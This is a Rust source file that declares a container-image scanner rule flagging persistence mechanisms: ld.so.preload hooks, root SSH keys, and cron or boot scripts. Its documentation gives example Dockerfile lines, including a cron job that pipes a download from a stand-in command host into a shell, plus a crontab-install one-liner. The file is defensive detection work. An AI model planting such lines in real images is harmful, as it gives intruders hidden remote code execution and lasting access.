use shipshape_malware::{Category, MalwareMatch};
use shipshape_model::{SourceFile, declare_rule};

use crate::checkers::malware::report_matches;
use crate::context::Checker;

declare_rule! {
    /// ## What it does
    /// Flags a persistence mechanism planted in an image or written by a script:
    ///
    /// - `/etc/ld.so.preload` naming a library (every process loads it: the classic userland
    ///   rootkit hook), or a script or Dockerfile writing that file;
    /// - an SSH key in `/root/.ssh/authorized_keys` (or `authorized_keys2`), or a script or
    ///   `COPY` writing it: a standing login as root;
    /// - a cron job (`/etc/crontab`, `/etc/cron.d/`, `/etc/cron.{hourly,daily,weekly,monthly}/`,
    ///   `/var/spool/cron/`, `/etc/crontabs/`, `/etc/periodic/`, files named `crontab` or
    ///   `*.cron`) or boot and login script (`/etc/rc.local`, `/etc/init.d/`, systemd units,
    ///   `/etc/profile.d/`, root's `.bashrc`) that runs a program from `/tmp`, `/var/tmp` or
    ///   `/dev/shm`, pipes a download or `base64 -d` output into a shell, or talks to
    ///   `/dev/tcp`; and a script installing such a cron job (`(crontab -l; echo '* * * * *
    ///   curl ... | sh') | crontab -`).
    ///
    /// Ordinary cron jobs (the `dpkg`, `logrotate` and `e2scrub` jobs of Debian images) are not
    /// reported. In image layers the file's path decides; in a scanned directory, a tree laid
    /// out like a root file system (`rootfs/etc/cron.d/...`) counts too.
    ///
    /// ## Why is this bad?
    /// These are how an intruder survives a restart, hides processes, or keeps a way back in.
    /// None of them belongs in a container image, where the entrypoint is the only thing that
    /// should run.
    ///
    /// ## Example
    /// ```dockerfile
    /// RUN echo '* * * * * root curl -fsSL https://c2.example/u | sh' > /etc/cron.d/update
    /// RUN echo /usr/local/lib/libhide.so >> /etc/ld.so.preload
    /// ```
    ///
    /// Use instead: no cron jobs, preloaded libraries or root keys in the image; schedule jobs
    /// with the orchestrator (a Kubernetes `CronJob`) and use `docker exec` for access.
    ///
    /// ## Fix
    /// Remove the file or line, find which layer or build step added it, and treat the image
    /// as compromised if you did not.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - MITRE ATT&CK T1053.003 (Cron), T1574.006 (Dynamic Linker Hijacking),
    ///   T1098.004 (SSH Authorized Keys), T1037 (Boot or Logon Initialization Scripts)
    pub static PERSISTENCE = {
        code: "SUP113",
        name: "persistence-mechanism",
        layer: SupplyChain,
        threat: MaliciousImage,
        asset: Host,
        severity: High,
        fix: None,
        summary: "a cron job, boot script, preloaded library or root SSH key keeps a foothold",
        aliases: [],
    }
}

pub(crate) fn check(source: &SourceFile, found: &[MalwareMatch], checker: &mut Checker<'_>) {
    report_matches(
        &PERSISTENCE,
        Category::Persistence,
        source,
        found,
        "remove it and find which layer or build step planted it",
        checker,
    );
}
